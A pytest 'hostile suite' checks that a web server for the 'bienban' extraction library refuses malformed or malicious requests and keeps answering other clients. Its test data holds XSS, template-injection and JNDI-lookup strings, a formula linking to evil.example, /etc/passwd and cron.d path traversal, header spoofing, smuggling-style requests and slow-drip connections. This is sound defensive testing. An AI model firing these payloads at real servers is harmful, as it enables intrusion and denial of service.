"""The hostile suite: what a server meets on a bad day, over a real socket, and that it answers the next visitor after each."""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Any

import httpx
import psutil
import pytest

import bienban
from web.support import MARKED, REPORT, Running, received, running

BODY = json.dumps({"text": REPORT}, ensure_ascii=False).encode()
FLAGS = ("--workers", "2", "--max-seconds", "4", "--max-memory", "512")
HASTE = {"BIENBAN_SERVE_HEADER_SECONDS": "1", "BIENBAN_SERVE_BODY_SECONDS": "1", "BIENBAN_SERVE_WRITE_SECONDS": "1"}
"""Times are short, so that the tests are; the clocks are the same."""


@pytest.fixture(scope="module")
def server() -> Iterator[Running]:
    with running(*FLAGS, module="web.hooked_cli", **HASTE) as started:
        yield started


@pytest.fixture(autouse=True)
def _still_there(server: Running) -> Iterator[None]:
    """After whatever a test did, the server gives a new visitor the right record, and has not grown."""
    yield
    answer = httpx.post(f"{server.address}/api/extract", json={"text": REPORT}, timeout=30)
    assert answer.content == bienban.extract(REPORT).to_json().encode("utf-8")
    assert server.memory() < 200


def posted(body: bytes = BODY, *headers: str, path: str = "/api/extract", kind: str = "application/json") -> bytes:
    lines = [f"POST {path} HTTP/1.1", "Host: localhost", f"Content-Type: {kind}", f"Content-Length: {len(body)}", *headers]
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def status(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else 0


CLOSE = "Connection: close"

HOSTILE_TEXTS: dict[str, str] = {
    "script": f"<script>alert(1)</script><img src=x onerror=alert(1)> {REPORT}",
    "html comment and entities": f"<!--{REPORT}-->&lt;script&gt;&#x202e;",
    "template": "{{7*7}} {% include '/etc/passwd' %} ${jndi:ldap://evil.example/a} " + REPORT,
    "right to left": f"\u202e{REPORT}\u2066\u2069\u200f",
    "control characters": "".join(map(chr, range(1, 32))) + REPORT + "\x7f\x80\x9f",
    "NUL": f"\x00{REPORT}\x00",
    "lone surrogates": f"\ud800{REPORT}\udfff\udc00",
    "zero width and BOM": f"\ufeff\u200b{REPORT}\u2060",
    "combining marks": "o" + "\u0302\u0301" * 20_000 + REPORT,
    "one long line": f"{REPORT} " * 1_000,
    "half a million newlines": "\n" * 500_000 + REPORT,
    "noncharacters and emoji": f"\uffff\U0010ffff👩‍👩‍👧‍👦 {REPORT}",
    "formula": f'=HYPERLINK("http://evil.example") {REPORT}',
}


@pytest.mark.parametrize("name", HOSTILE_TEXTS)
def test_any_text_becomes_the_library_s_record(server: Running, name: str) -> None:
    text = HOSTILE_TEXTS[name]
    answer = httpx.post(f"{server.address}/api/extract", content=json.dumps({"text": text}), headers={"content-type": "application/json"}, timeout=30)
    assert (answer.status_code, answer.headers["content-type"]) == (200, "application/json")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.content == bienban.extract(text).to_json().encode("utf-8")


BROKEN_FILES: dict[str, tuple[bytes, int]] = {
    "zip": (b"PK\x03\x04" + bytes(range(256)) * 40, 415),
    "doc": (bytes.fromhex("d0cf11e0a1b11ae1") + bytes(2_000), 415),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 8, 415),
    "exe": (b"MZ\x90\x00\x03" + bytes(range(256)) * 8, 415),
    "png": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, 415),
    "gzip": (bytes.fromhex("1f8b0800000000000003") + bytes(range(256)) * 4, 415),
    "nothing but NUL": (bytes(5_000), 415),
    "noise": (bytes((n * 7_919 + n // 251) % 256 for n in range(20_000)), 415),
}


@pytest.mark.parametrize("name", BROKEN_FILES)
def test_a_file_that_is_no_text_is_refused_by_its_kind(server: Running, name: str) -> None:
    data, expected = BROKEN_FILES[name]
    answer = httpx.post(f"{server.address}/api/extract", files={"file": (f"bao-cao.{name}", data)})
    assert (answer.status_code, answer.json()["code"] in {"BB103", "BB104"}) == (expected, True)


@pytest.mark.parametrize("cut", [1, 2, 3, 101])
@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-8"])
def test_a_file_cut_in_the_middle_of_a_letter(server: Running, encoding: str, cut: int) -> None:
    data = f"Ậ{REPORT}".encode(encoding)[:-cut]
    answer = httpx.post(f"{server.address}/api/extract", files={"file": ("a.txt", data)})
    try:
        expected = bienban.extract(data, name="a.txt").to_json().encode("utf-8")
    except bienban.BienbanError as error:
        expected = error.code.encode()
    assert expected in answer.content


def part(header: bytes) -> bytes:
    return b"--b\r\nContent-Disposition: form-data; " + header + b"\r\n\r\nB\xc3\xa1o c\xc3\xa1o.\r\n--b--\r\n"


@pytest.mark.parametrize(
    ("body", "kind", "code"),
    [
        (b"x" * 10_000_000, "text/plain", "BB201"),
        (b'{"text": "' + b"x" * 10_000_000 + b'"}', "application/json", "BB201"),
        (b'{"text": "' + b"x" * 1_000_001 + b'"}', "application/json", "BB202"),
        (b'{"text":' + b"[" * 1_000_000, "application/json", "BB602"),
        (b'{"text":"a","text":"b"}', "application/json", "BB601"),
        (b'{"text":"\\ud800', "application/json", "BB601"),
        (b'{"__proto__":{"text":"x"}}', "application/json", "BB602"),
        (b"{" + b",".join(b'"%d":1' % n for n in range(400_000)) + b"}", "application/json", "BB602"),
        (b"\x80\x81", "application/json", "BB601"),
        (BODY, "application/json; charset=utf-7", None),
        (BODY, "application/json/../text", "BB606"),
        (BODY, "", "BB606"),
        (b"--b\r\n" * 100_000, "multipart/form-data; boundary=b", "BB603"),
        (part(b'name="file"; filename="../../../etc/cron.d/x"'), "multipart/form-data; boundary=b", None),
        (part(b'name="text"\r\nX: ' + b"y" * 100_000), "multipart/form-data; boundary=b", "BB603"),
        (b"x", "multipart/form-data; boundary=" + "b" * 5_000, "BB603"),
    ],
    ids=lambda value: None if isinstance(value, bytes) else str(value)[:40],
)  # fmt: skip
def test_bodies(server: Running, body: bytes, kind: str, code: str | None) -> None:
    answer = httpx.post(f"{server.address}/api/extract", content=body, headers={"content-type": kind}, timeout=60)
    assert answer.json().get("code") == code
    assert "etc/cron" not in answer.text


def test_twenty_megabytes_in_pieces_without_a_length(server: Running) -> None:
    with server.connect() as connection:
        connection.sendall(b"POST /api/extract HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n")
        piece = b"10000\r\n" + b"x" * 65_536 + b"\r\n"
        sent = 0
        try:
            while sent < 20_000_000:
                connection.sendall(piece)
                sent += 65_536
            connection.sendall(b"0\r\n\r\n")
            answer = connection.recv(65_536)
        except (BrokenPipeError, ConnectionResetError):
            answer = b"HTTP/1.1 413 cut off while sending"
    assert status(answer) == 413
    assert server.memory() < 150


def test_a_packed_body_is_not_unpacked(server: Running) -> None:
    import gzip

    answer = server.send(posted(gzip.compress(b"x" * 50_000_000), "Content-Encoding: gzip", CLOSE))
    assert status(answer) == 415


@pytest.mark.parametrize(
    ("request_", "expected"),
    [
        (b"GET /api/health HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n", 421),
        (b"GET /api/health HTTP/1.1\r\nConnection: close\r\n\r\n", 400),
        (b"GET /api/health HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\nConnection: close\r\n\r\n", 400),
        (b"GET /api/health HTTP/1.0\r\n\r\n", 400),
        (b"GET http://evil.example/api/health HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n", 421),
        (b"GET /api/health HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-Host: evil.example\r\nConnection: close\r\n\r\n", 200),
        (b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nConnection: close\r\n\r\n", 421),
        (b"OPTIONS * HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", 404),
        (
            b"OPTIONS /api/extract HTTP/1.1\r\nHost: localhost\r\nOrigin: http://evil.example\r\n"
            b"Access-Control-Request-Method: POST\r\nConnection: close\r\n\r\n",
            403,
        ),
        (posted(BODY, "Origin: http://evil.example", CLOSE), 403),
        (posted(BODY, "Origin: null", CLOSE), 403),
        (posted(BODY, "Sec-Fetch-Site: cross-site", CLOSE), 403),
        (posted(BODY, "X-HTTP-Method-Override: GET", CLOSE), 200),
        (posted(BODY, CLOSE, path="/api/health"), 405),
        (b"DELETE /api/extract HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", 405),
        (b"TRACE / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", 405),
        (b"GET /static/../../../../etc/passwd HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", 404),
        (b"GET /static/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", 404),
        (b"GET /static/..%5c..%5capp.py HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", 404),
        (b"GET /static//etc/passwd HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", 404),
        (b"GET /static/%00 HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", 404),
        (b"GET /static/app.py HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", 404),
        (b"GET /api/schema/../../etc/passwd HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", 404),
        (b"GET /api/health HTTP/1.1\r\nHost: localhost\r\nX: " + b"y" * 20_000 + b"\r\nConnection: close\r\n\r\n", 431),
        (b"GET /api/health HTTP/1.1\r\nHost: localhost\r\nX: " + b"y" * 2_000_000 + b"\r\nConnection: close\r\n\r\n", 400),
        (b"GET /api/health HTTP/1.1\r\nHost: localhost\r\n" + b"X: y\r\n" * 200 + b"Connection: close\r\n\r\n", 431),
        (b"GET /" + b"a" * 40_000 + b" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", 431),
        (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100), 400),
        (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400),
        (b"GET /api/health HTTP/1.1\nHost: localhost\nConnection: close\n\n", 200),
        (posted(BODY, f"Content-Length: {len(BODY) + 5}", CLOSE), 400),
        (posted(BODY, "Transfer-Encoding: chunked", CLOSE), 400),
        (b"POST /api/extract HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n\r\n", 400),
        (b"POST /api/extract HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99999999999999999999\r\nConnection: close\r\n\r\n", 413),
        (b"POST /api/extract HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nFFFFFFFFFFFFFFFF\r\n", 408),
        (
            b"GET /ws HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade, close\r\n"
            b"Sec-WebSocket-Key: eA==\r\nSec-WebSocket-Version: 13\r\n\r\n",
            404,
        ),
        (b"GET /api/health HTTP/1.1\r\nHost: localhost\r\nUpgrade: h2c\r\nConnection: Upgrade, close\r\n\r\n", 200),
        (b"GET /api/health HTTP/1.1\r\nHost: loc\x00alhost\r\nConnection: close\r\n\r\n", 400),
        (posted(json.dumps({"text": MARKED}).encode(), CLOSE), 422),
    ],
    ids=lambda value: None if isinstance(value, bytes) else str(value),
)  # fmt: skip
def test_requests(server: Running, request_: bytes, expected: int) -> None:
    answer = server.send(request_)
    assert status(answer) == expected
    assert b"root:" not in answer
    assert b"access-control" not in answer.lower()


def test_pipelined_requests_are_answered_in_their_order(server: Running) -> None:
    texts = [f"{REPORT} {n}" for n in range(8)]
    wire = b"".join(posted(json.dumps({"text": text}).encode(), *([CLOSE] if text is texts[-1] else [])) for text in texts)
    answer = server.send(wire)
    places = [answer.find(bienban.extract(text).to_json().encode("utf-8")) for text in texts]
    assert answer.count(b"HTTP/1.1 200") == 8
    assert places == sorted(places)
    assert min(places) > 0


def closed_after(connection: socket.socket) -> float:
    started = time.monotonic()
    received(connection)
    return time.monotonic() - started


@pytest.mark.parametrize(
    "sent",
    [b"", b"GET /api/health HTT", b"GET /api/health HTTP/1.1\r\nHost: localhost\r\nX: ", b"POST /api/extract HTTP/1.1\r\n"],
    ids=["silent", "half a line", "half a header", "no end"],
)
def test_a_header_that_never_ends_is_cut_off(server: Running, sent: bytes) -> None:
    with server.connect() as connection:
        connection.sendall(sent)
        assert closed_after(connection) < 4


def test_a_header_drop_by_drop_is_cut_off(server: Running) -> None:
    with server.connect() as connection:
        started = time.monotonic()
        with suppress(OSError):
            for letter in b"GET /api/health HTTP/1.1\r\nHost: localhost\r\n" + b"X" * 1_000:
                connection.sendall(bytes([letter]))
                time.sleep(0.02)
        assert time.monotonic() - started < 5


def test_a_body_drop_by_drop_is_cut_off(server: Running) -> None:
    with server.connect() as connection:
        connection.sendall(b"POST /api/extract HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\nContent-Length: 5000\r\n\r\n")
        started = time.monotonic()
        connection.settimeout(0.02)
        answer = b""
        while not answer and time.monotonic() - started < 10:
            try:
                connection.sendall(b"x")
                answer = connection.recv(65_536)
            except TimeoutError:
                continue
        assert status(answer) == 408
        assert time.monotonic() - started < 5


def test_a_body_that_never_comes_is_cut_off(server: Running) -> None:
    answer = server.send(b"POST /api/extract HTTP/1.1\r\nHost: localhost\r\nContent-Length: 10\r\nExpect: 100-continue\r\nConnection: close\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 100")
    assert b"HTTP/1.1 408" in answer


def test_a_refused_body_that_goes_on_for_ever_is_cut_off(server: Running) -> None:
    """After a 413 the rest is thrown away, but not for ever."""
    with server.connect() as connection:
        connection.sendall(b"POST /api/extract HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n")
        started = time.monotonic()
        with suppress(OSError):
            while time.monotonic() - started < 20:
                connection.sendall(b"10000\r\n" + b"x" * 65_536 + b"\r\n")
                time.sleep(0.005)
        assert time.monotonic() - started < 10


def test_answers_nobody_takes_are_dropped(server: Running) -> None:
    """A client that asks for many large answers and reads none: the server lets go of the connection while the client holds on."""
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
    connection.settimeout(1)
    connection.connect(("127.0.0.1", server.port))
    with connection:
        ask = posted(json.dumps({"text": "Báo cáo. " * 100_000}, ensure_ascii=False).encode())
        with suppress(OSError):
            for _ in range(12):
                connection.sendall(ask)
        mine = connection.getsockname()[1]
        deadline = time.monotonic() + 20
        while mine in {c.raddr.port for c in psutil.Process(server.process.pid).net_connections() if c.raddr}:
            assert time.monotonic() < deadline, "still held"
            time.sleep(0.1)


def test_half_open_connections_lock_nobody_out(server: Running) -> None:
    """More silent connections than the server holds; a visitor who speaks is answered meanwhile."""
    silent = []
    try:
        for _ in range(400):
            silent.append(server.connect())
            silent[-1].sendall(b"GET / HTTP/1.1\r\nHost: ")
        started = time.monotonic()
        assert httpx.get(f"{server.address}/api/health", timeout=5).status_code == 200
        assert time.monotonic() - started < 3
    finally:
        for connection in silent:
            connection.close()


def test_clients_who_leave_at_once_free_their_places(server: Running) -> None:
    for _ in range(60):
        with server.connect() as connection:
            connection.sendall(posted(json.dumps({"text": f"SLEEP {REPORT}"}).encode()))
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline:
        load = httpx.get(f"{server.address}/api/health").json()
        if (load["free"], load["waiting"]) == (2, 0):
            return
        time.sleep(0.1)
    pytest.fail(f"still in work: {load}")


@pytest.mark.parametrize(("cue", "expected"), [("HANG", 504), ("DIE", 500), ("EAT", 413), ("FAIL", 500)])
def test_a_text_that_breaks_its_worker_breaks_no_other(server: Running, cue: str, expected: int) -> None:
    """While one hangs, dies or eats all the memory, others are answered rightly, and health stays good."""
    bad: list[httpx.Response] = []
    thread = threading.Thread(target=lambda: bad.append(httpx.post(f"{server.address}/api/extract", json={"text": f"{cue} {REPORT}"}, timeout=60)))
    thread.start()
    good = [httpx.post(f"{server.address}/api/extract", json={"text": REPORT}, timeout=30) for _ in range(10)]
    health = httpx.get(f"{server.address}/api/health")
    thread.join(60)
    assert (bad[0].status_code, bad[0].headers["content-type"]) == (expected, "application/problem+json")
    assert "BÍ MẬT" not in bad[0].text
    assert {answer.content for answer in good} == {bienban.extract(REPORT).to_json().encode("utf-8")}
    assert health.status_code == 200


LARGE = 6_000_000
FILE = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n\r\n'
BUSY: dict[str, tuple[str, str, bytes]] = {
    "many small values to correct": ("/correct", "application/json", b'{"record":[' + b'{"a":1},' * (LARGE // 8) + b"1]}"),
    "many small values for a form": ("/form", "application/json", b'{"id":"T1","record":[' + b'["a"],' * (LARGE // 6) + b"1]}"),
    "one string of escapes": ("/correct", "application/json", b'{"record":"' + b"\\u1ea1" * (LARGE // 6) + b'"}'),
    "brackets without end": ("/correct", "application/json", b'{"record":' + b"[" * LARGE),
    "many small values to save": ("/api/gold", "application/json", b'{"text":"a","gold":[' + b'{"a":1},' * (LARGE // 8) + b"1]}"),
    "nothing but blanks": ("/api/extract", "application/json", b"{" + b" " * LARGE + b"}"),
    "a file of lines": ("/api/extract", "multipart/form-data; boundary=b", FILE + b"\r\n-" * LARGE + b"\r\n--b--\r\n"),
    "a file of almost boundaries": ("/api/extract", "multipart/form-data; boundary=b", FILE + b"\r\n--a" * (LARGE // 2) + b"\r\n--b--\r\n"),
    "percent-encoded": ("/view", "application/x-www-form-urlencoded", b"text=" + b"%41" * (LARGE // 3)),
}


@pytest.mark.parametrize("name", BUSY)
def test_others_are_answered_while_a_large_body_is_worked_on(saving_server: Running, name: str) -> None:
    """Nobody waits for another's megabytes: they are read in a worker, or not at all."""
    path, kind, body = BUSY[name]
    stop = threading.Event()
    waits: list[float] = []

    def ask_health() -> None:
        with httpx.Client(base_url=saving_server.address, timeout=30) as client:
            while not stop.is_set():
                started = time.perf_counter()
                assert client.get("/api/health").status_code == 200
                waits.append(time.perf_counter() - started)
                time.sleep(0.005)

    with httpx.Client(base_url=saving_server.address, timeout=60) as client:
        page = client.get("/").text
        headers = {"content-type": kind, "accept": "application/json", "x-csrf-token": page.partition('name="csrf" value="')[2].partition('"')[0]}
        thread = threading.Thread(target=ask_health)
        thread.start()
        while not waits:
            time.sleep(0.005)
        answer = client.post(path, content=body, headers=headers)
        stop.set()
        thread.join(30)
    assert 400 <= answer.status_code < 500, answer.text
    assert answer.json()["code"].startswith("BB")
    assert max(waits) < 0.5, (name, max(waits))


def test_others_are_answered_while_a_body_comes_in_chunks_of_a_byte(saving_server: Running) -> None:
    stop = threading.Event()

    def send() -> None:
        with saving_server.connect() as connection, suppress(OSError):
            connection.sendall(b"POST /api/extract HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n")
            while not stop.is_set():
                connection.sendall(b"1\r\nx\r\n" * 20_000)

    thread = threading.Thread(target=send)
    thread.start()
    try:
        time.sleep(0.5)
        waits = []
        for _ in range(5):
            started = time.perf_counter()
            assert httpx.get(f"{saving_server.address}/api/health", timeout=30).status_code == 200
            waits.append(time.perf_counter() - started)
    finally:
        stop.set()
        thread.join(30)
    assert sorted(waits)[2] < 0.75, waits


@pytest.fixture(scope="module")
def saving_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    with running("--workers", "2", "--save-dir", str(tmp_path_factory.mktemp("gold"))) as started:
        # A log that nobody reads fills its pipe, and then holds up the server.
        threading.Thread(target=started.process.stderr.read if started.process.stderr else None, daemon=True).start()
        yield started


def test_too_many_at_once_are_told_when_to_come_again() -> None:
    def each(call: Callable[[], Any], count: int) -> list[Any]:
        found: list[Any] = []
        threads = [threading.Thread(target=lambda: found.append(call())) for _ in range(count)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        return found

    with running("--max-waiting", "3", module="web.hooked_cli") as small:
        answers = each(lambda: httpx.post(f"{small.address}/api/extract", json={"text": f"SLEEP {REPORT}"}, timeout=60), 12)
    served = [answer for answer in answers if answer.status_code == 200]
    refused = [answer for answer in answers if answer.status_code == 503]
    assert len(served) + len(refused) == 12
    assert 4 <= len(served) <= 6
    assert {answer.headers["retry-after"] for answer in refused} == {"5"}
